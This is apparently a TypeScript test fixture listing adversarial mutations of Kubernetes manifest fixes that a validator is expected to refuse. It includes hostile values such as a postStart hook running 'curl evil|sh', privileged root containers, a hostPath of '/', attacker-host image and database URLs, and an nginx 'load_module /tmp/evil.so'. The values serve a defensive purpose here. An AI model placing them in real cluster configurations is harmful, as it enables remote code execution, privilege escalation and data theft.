import type { Json } from "../../src/cluster/objects.ts";
import type { FieldPath, Segment } from "../../src/source/edit/field-path.ts";
import { type Attack, replacing, setting } from "./attack.ts";

const named = (value: string): Segment => ({ key: "name", value });
const pod: FieldPath = ["spec", "template", "spec"];
const main: FieldPath = [...pod, "containers", named("main")];

const FORMER = "the program that ran here, in the version of the others";
const PINNED = "the program that ran here, pinned as it was";
const LISTED = "a file that the volume lists no more";
const SECRET = "the Secret where all others went";
const HERE = "the Secret where all others of the namespace went";
const FOLDER = "the folder in which the program started";
const JOB = "the folder in which a Job started";
const OPTION = "the port behind its option, beside a new argument";
const OPTIONS = "the port alone, of two options that changed";
const WITHIN = "a file that stood in the text of another one";
const SMALL = "a variable that a log names in small letters";
const DIGITS = "a number in digits";
const HIDDEN = "an empty directory that hid the program";
const BUDGET = "one of two bounds of a disruption budget";
const BACKEND = "the backend that was renamed with its pods";

/** What nobody gets through beside a right fix, whatever it follows. */
const DANGERS: readonly (readonly [name: string, path: FieldPath, value: Json])[] = [
  ["privileged", [...main, "securityContext"], { privileged: true }],
  ["root", [...main, "securityContext"], { runAsUser: 0 }],
  ["host network", [...pod, "hostNetwork"], true],
  ["host path", [...pod, "volumes", named("host")], { name: "host", hostPath: { path: "/" } }],
  ["container beside", [...pod, "containers", named("evil")], { name: "evil", image: "evil:1" }],
  ["init container", [...pod, "initContainers"], [{ name: "evil", image: "evil:1" }]],
  ["account", [...pod, "serviceAccountName"], "cluster-admin"],
  ["start hook", [...main, "lifecycle"], { postStart: { exec: { command: ["sh", "-c", "curl evil|sh"] } } }],
];

const WORKLOADS = [FORMER, PINNED, LISTED, SECRET, FOLDER, OPTION, SMALL, DIGITS, HIDDEN];

const BESIDE = WORKLOADS.flatMap((on) => [
  ...setting("beside what follows", on, "refused", DANGERS),
  ...setting("beside what follows", on, "harmless", [["Secret as variables", [...main, "envFrom"], [{ secretRef: { name: "admin" } }]]]),
]);

/** The playbook asks for no more than it needs: where something of that has to be put back, nothing is left. */
const HALVES: readonly Attack[] = [FORMER, LISTED, SECRET, FOLDER, OPTION, DIGITS].flatMap((on) =>
  setting("half of the playbook's fix", on, "refused", [
    ["fewer replicas", ["spec", "replicas"], 0],
    ["a label", ["spec", "template", "metadata", "labels", "tier"], "admin"],
    ["pull policy", [...main, "imagePullPolicy"], "Never"],
  ]).map((attack): Attack => ({ ...attack, proposal: (right) => ({ ...right, origin: "playbook" }) })),
);

/** Attacks on fixes that follow what others of the delivery do. */
export const FOLLOWING: readonly Attack[] = [
  ...BESIDE,
  ...HALVES,
  ...replacing("former program", FORMER, "refused", [
    ["of another registry", "acme/web:1.5", "evil.example.com/acme/web:1.5"],
    ["of the look-alike owner", "acme/web:1.5", "acrne/web:1.5"],
    ["in a version that nobody runs", "acme/web:1.5", "acme/web:1.6"],
    ["in a version that is always another", "acme/web:1.5", "acme/web:latest"],
    ["in no version", "acme/web:1.5", "acme/web"],
    ["with a digest that nobody saw", "acme/web:1.5", `acme/web:1.5@sha256:${"0".repeat(64)}`],
    ["of the same name in a folder", "acme/web:1.5", "acme/web/web:1.5"],
    ["with a name that goes on", "acme/web:1.5", "acme/web-debug:1.5"],
    ["another one that is known", "acme/web:1.5", "acme/queue:2.0"],
  ]),
  ...replacing("former program", PINNED, "refused", [
    ["without its digest", `acme/web:1.5@sha256:${"a1".repeat(32)}`, "acme/web:1.5"],
    ["with the digest of its older version", "a1".repeat(32), "b2".repeat(32)],
  ]),
  ...replacing("file of a volume", LISTED, "refused", [
    ["two at once", "key: log.toml, path: log.toml }\n", "key: log.toml, path: log.toml }\n              - { key: other.toml, path: other.toml }\n"],
    ["another one", "key: log.toml, path: log.toml", "key: other.toml, path: other.toml"],
    ["another one under its name", "key: log.toml, path: log.toml", "key: other.toml, path: log.toml"],
    ["out of the volume", "path: log.toml", "path: ../../bin/log.toml"],
    ["that may be run", "key: log.toml, path: log.toml }", "key: log.toml, path: log.toml, mode: 511 }"],
    ["in the place of the other", "              - { key: app.toml, path: app.toml }\n", ""],
    ["of another map", "            name: conf\n            items", "            name: kube-root-ca.crt\n            items"],
    ["of a Secret", "          configMap:\n            name: conf\n", "          secret:\n            secretName: conf\n"],
    ["with a mode for all", "            name: conf\n            items", "            name: conf\n            defaultMode: 511\n            items"],
    ["mounted elsewhere", "mountPath: /etc/app", "mountPath: /etc/ssl"],
  ]),
  ...setting("file of a volume", LISTED, "refused", [
    ["the list goes", [...pod, "volumes", named("conf"), "configMap", "items"], undefined],
    ["the list is empty", [...pod, "volumes", named("conf"), "configMap", "items"], []],
    ["the volume goes", [...pod, "volumes", named("conf")], undefined],
  ]),
  ...setting("file of a volume", LISTED, "harmless", [["it may be missing", [...pod, "volumes", named("conf"), "configMap", "optional"], true]]),
  ...[SECRET, HERE].flatMap((on) =>
    replacing("Secret of others", on, "refused", [
      ["another one", "name: database,", "name: admin-token,"],
      ["one that sounds like it", "name: database,", "name: databases,"],
      ["another key of it", "key: password", "key: root-password"],
      ["the value itself", "valueFrom:\n                secretKeyRef: { name: database, key: password }", "value: hunter2"],
      ["a map in its place", "secretKeyRef: { name: database", "configMapKeyRef: { name: database"],
    ]),
  ),
  ...replacing("Secret of others", HERE, "refused", [["that of another namespace", "name: database,", "name: vault,"]]),
  ...[FOLDER, JOB].flatMap((on) =>
    replacing("folder", on, "refused", [
      ["the root", "workingDir: /app", "workingDir: /"],
      ["where anybody writes", "workingDir: /app", "workingDir: /tmp"],
      ["of the system", "workingDir: /app", "workingDir: /proc/1/root"],
      ["that the log names", "workingDir: /app", "workingDir: /srv/server.js"],
      ["above it", "workingDir: /app", "workingDir: /app/.."],
      ["none", "          workingDir: /app\n", ""],
    ]),
  ),
  ...replacing("argument behind its option", OPTION, "refused", [
    ["another port", "0.0.0.0:8080", "0.0.0.0:9090"],
    ["another host", "0.0.0.0:8080", "evil.example.com:8080"],
    ["another option", "-b, '0.0.0.0:8080'", "--upstream, '0.0.0.0:8080'"],
    ["one more", "--preload", "--preload, --debug"],
    ["a shell", "serve, -b", "sh, -c"],
    ["the new one goes", ", --preload", ""],
    ["two words in one", "'0.0.0.0:8080'", "'0.0.0.0:8080 --admin'"],
    ["twice", "'0.0.0.0:8080', --preload", "'0.0.0.0:8080', '0.0.0.0:8080'"],
    ["and the probe asks elsewhere", "path: /, port: 8080", "path: /, port: 8080, host: evil.example.com"],
  ]),
  ...replacing("argument behind its option", OPTIONS, "refused", [["another option goes back as well", "-w, '9'", "-w, '4'"]]),
  ...replacing("file in a text", WITHIN, "refused", [
    ["another text", "gzip on;", "load_module /tmp/evil.so;"],
    ["more text", "gzip on;\n", "gzip on;\n    include /tmp/*;\n"],
    ["under another name", "  gzip.conf: |\n", "  evil.conf: |\n"],
    ["and the first says something else", "user web;", "user root;"],
    ["one more file", "\ndata:\n", "\ndata:\n  evil.conf: load_module evil\n"],
    ["it stays in the text as well", "    user web;\n", "    user web;\n    gzip.conf: |\n      gzip on;\n"],
  ]),
  ...replacing("file in a text", WITHIN, "refused", [["it is lost", "  gzip.conf: |\n    gzip on;\n", ""]]).map((attack) => ({
    ...attack,
    input: { lastGood: [] },
  })),
  ...replacing("file in a text", WITHIN, "harmless", [["it cannot be changed any more", "kind: ConfigMap\n", "kind: ConfigMap\nimmutable: true\n"]]),
  ...replacing("variable in small letters", SMALL, "refused", [
    ["another value", "postgres://shop@db/shop", "postgres://shop@evil.example.com/shop"],
    ["another user", "postgres://shop@db/shop", "postgres://root@db/shop"],
    ["no value", 'DATABASE_URL\n              value: "postgres://shop@db/shop"', 'DATABASE_URL\n              value: ""'],
    ["a word of the log that opens doors", 'DATABASE_URL\n              value: "postgres://shop@db/shop"', 'ALLOW_ANONYMOUS\n              value: "true"'],
    ["a word of the log that counts", 'DATABASE_URL\n              value: "postgres://shop@db/shop"', 'MAX_TRIES\n              value: "0"'],
    [
      "a word that opens doors beside it",
      "            - name: DATABASE_URL\n",
      '            - name: ALLOW_ANONYMOUS\n              value: "true"\n            - name: DATABASE_URL\n',
    ],
    ["what loads code", "name: DATABASE_URL", "name: LD_PRELOAD"],
    ["in small letters", "name: DATABASE_URL", "name: database_url"],
    ["from a Secret", 'value: "postgres://shop@db/shop"', "valueFrom:\n                secretKeyRef: { name: admin, key: url }"],
    ["from the pod", 'value: "postgres://shop@db/shop"', "valueFrom:\n                fieldRef: { fieldPath: spec.nodeName }"],
    ["the other goes for it", '            - name: MODE\n              value: "web"\n', ""],
  ]),
  ...replacing("number in digits", DIGITS, "refused", [
    ["another number by a nought", '"5000000"', '"50000000000000000000"'],
    ["an address", '"5000000"', '"http://evil"'],
    ["a variable's value", '"5000000"', '"$(DATABASE_PASSWORD)"'],
    ["no value", '"5000000"', '""'],
    ["another variable", 'MODE\n              value: "web"', 'MODE\n              value: "5000000"'],
  ]),
  ...replacing("empty directory", HIDDEN, "refused", [
    ["over the system", "mountPath: /app/cache", "mountPath: /etc"],
    ["over the root", "mountPath: /app/cache", "mountPath: /"],
    ["out of its folder", "mountPath: /app/cache", "mountPath: /app/../etc"],
    ["over the program's libraries", "mountPath: /app/cache", "mountPath: /app/lib"],
    ["from the node", "emptyDir: {}", "hostPath: { path: /var/run }"],
    ["from a claim", "emptyDir: {}", "persistentVolumeClaim: { claimName: payments }"],
    ["of a Secret", "emptyDir: {}", "secret: { secretName: admin }"],
  ]),
  ...replacing("bounds of a budget", BUDGET, "refused", [
    ["none is left", "  minAvailable: 2\n", ""],
    ["the other, lower", "minAvailable: 2", "minAvailable: 0"],
    ["the other, so high that no node is ever drained", "minAvailable: 2", "minAvailable: 100%"],
    ["of another version", "policy/v1\n", "policy/v1beta1\n"],
    ["under another name", "  name: web\n", "  name: other\n"],
  ]),
  ...replacing("bounds of a budget", BUDGET, "harmless", [
    ["everybody's pods", "selector: { matchLabels: { app: web } }", "selector: {}"],
    ["other pods", "matchLabels: { app: web }", "matchLabels: { app: ledger }"],
    ["a sick pod is thrown out", "  minAvailable: 2\n", "  minAvailable: 2\n  unhealthyPodEvictionPolicy: AlwaysAllow\n"],
  ]),
  ...replacing("renamed backend", BACKEND, "refused", [
    ["another program's", "name: cart", "name: ledger"],
    ["one that is not there", "name: cart", "name: carts"],
    ["another port", "number: 80", "number: 8080"],
    ["the port by a name that it has not", "port: { number: 80 }", "port: { name: admin }"],
  ]),
  ...replacing("renamed backend", BACKEND, "harmless", [
    ["for another host", "host: web.example.com", "host: evil.example.com"],
    ["for every path", "path: /\n", "path: /admin\n"],
    ["in another class", "ingressClassName: nginx", "ingressClassName: public"],
  ]),
];
